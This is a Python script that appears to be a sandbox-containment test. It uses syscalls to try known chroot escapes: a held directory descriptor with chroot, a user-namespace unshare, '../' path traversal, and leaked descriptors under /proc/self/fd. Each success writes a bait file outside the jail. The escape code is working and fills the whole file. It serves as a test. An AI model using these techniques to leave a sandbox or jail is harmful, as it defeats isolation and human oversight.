"""Out of the root by a folder held open over a chroot, which leads out of every root that a chroot made."""

import os

from attacker import FACTS, attempt, note, syscall, write_bait

CHROOT, UNSHARE = (161, 51), (272, 97)
NEW_USER = 0x1000_0000
OUT = FACTS["bait"] + "/out"
UP = "../" * 64


def apart(what, steps):
    """Take the steps in a process of their own: each changes root and folder of whoever takes them."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        steps()
    except OSError as error:
        note(f"{what}: {error}")
    finally:
        os._exit(0)


def by_held_folder():
    """The jail of its own makes the root no limit any more to what is held outside of it."""
    held = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/jail", exist_ok=True)
    if attempt("chroot", syscall, CHROOT, b"/tmp/jail") is None:
        return
    os.fchdir(held)
    for _ in range(64):
        os.chdir("..")
    if attempt("chroot out", syscall, CHROOT, b".") is not None:
        write_bait(OUT)


def by_own_user_namespace():
    """The same with the capabilities that a user namespace would give."""
    attempt("unshare", syscall, UNSHARE, NEW_USER)
    by_held_folder()


def by_names():
    """Up from a held folder by name alone."""
    held = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
    for where, path in ((held, UP + OUT.lstrip("/")), (None, OUT)):
        found = attempt(
            path, lambda where=where, path=path: os.open(path, os.O_WRONLY | os.O_CREAT, dir_fd=where)
        )
        if found is not None:
            write_bait(f"/proc/self/fd/{found}")


def by_left_descriptors():
    """By a folder that whoever made the sandbox left open."""
    for number in (*range(3, 256), 1023, 4095):
        if os.path.isdir(f"/proc/self/fd/{number}"):
            write_bait(f"/proc/self/fd/{number}/{UP}{OUT}")


for steps in (by_held_folder, by_own_user_namespace, by_names, by_left_descriptors):
    apart(steps.__name__, steps)
